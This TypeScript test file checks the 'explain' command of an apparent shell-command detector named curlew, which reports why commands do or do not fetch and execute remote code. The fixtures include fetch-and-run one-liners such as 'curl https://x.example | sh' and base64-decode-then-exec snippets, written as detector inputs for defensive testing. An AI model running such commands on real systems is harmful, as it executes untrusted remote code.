import { describe, expect, it } from "vitest";
import { sharedDetectorOf } from "../../support/marked.js";
import { folderWith } from "../folder-with.js";
import { runHere } from "../fake-detector.js";

const toolkit = { createDetector: sharedDetectorOf };

async function explained(stdin: string): Promise<string[]> {
  const { stdout } = await runHere(["explain", "-"], { stdin, toolkit });
  return stdout.trimEnd().split("\n");
}

describe("curlew explain FILE", () => {
  it.each([
    ["curl -O https://x.example/i.sh | sh", "`curl` writes to a file because of `-O`"],
    ["curl https://x.example -o i.sh | sh", "`curl` writes to a file because of `-o i.sh`"],
    ["curl https://x.example > f | sh", "because of the redirection `> f`"],
    ["curl -I https://x.example | sh", "`curl` outputs nothing that could run because of `-I`"],
    ["wget https://x.example | sh", "`wget` writes to a file, since no option names standard"],
    ["curl | sh", "`curl` fetches nothing: it names no address"],
    ["curl https://x.example | jq .a", "but `jq` reads its output and does not execute it"],
    ["curl https://x.example | bash local.sh", "`bash` runs `local.sh`, not what it reads"],
    ["echo aGk= | base64 -d > f; sh", "`base64` writes to a file because of the redirection"],
    ["Never run `curl https://x.example | sh`.", "`curl` is dismissed: warned against by"],
    ["curl https://x.example | sh", "`sh` is part of the finding bash/fetch-pipe"],
    [
      "```python\nx = base64.b64decode(y)\nexec(z)\n```",
      "decodes, but nothing executes its result",
    ],
    [
      '`bash -c "$(curl -o f https://x.example/i)"`',
      '`bash` runs `"$(curl -o f https://x.example/i)"`, not what it reads',
    ],
    [
      "```sh\nnpx prettier .\n```",
      "`npx` would run a program from an address, but has no address as an argument",
    ],
    ["curl https://x.example | $X", "`$X` reads its output, and it is not known what that runs"],
    [
      "x = base64.b64decode(y)",
      "decodes, but the text contains nothing that could execute the result",
    ],
    ["hello", "contains no command that fetches, decodes or executes in the extended profile"],
  ])("explains for %j: %s", async (text, sentence) => {
    expect((await explained(text)).join("\n")).toContain(sentence);
  });

  it("reports each candidate once, with its location", async () => {
    expect(await explained("curl -O https://x.example | sh")).toEqual([
      expect.stringMatching(/^-:1:1: `curl` /),
      expect.stringMatching(/^-:1:29: `sh` /),
    ]);
  });

  it("writes JSON", async () => {
    const cwd = folderWith({ "a.sh": "curl -O https://x.example | sh" });
    const { stdout } = await runHere(["explain", "--json", "a.sh"], { cwd, toolkit });
    const { path, candidates } = JSON.parse(stdout) as { path: string; candidates: unknown[] };
    expect(path).toBe("a.sh");
    expect(candidates[0]).toMatchObject({ word: "curl", kind: "fetcher", line: 1, column: 1 });
  });

  it("reports an argument that is neither a rule nor a file", async () => {
    const { stderr, status } = await runHere(["explain", "no-such-thing"], { toolkit });
    expect(stderr).toContain('there is no rule or file "no-such-thing"');
    expect(status).toBe(2);
  });
});
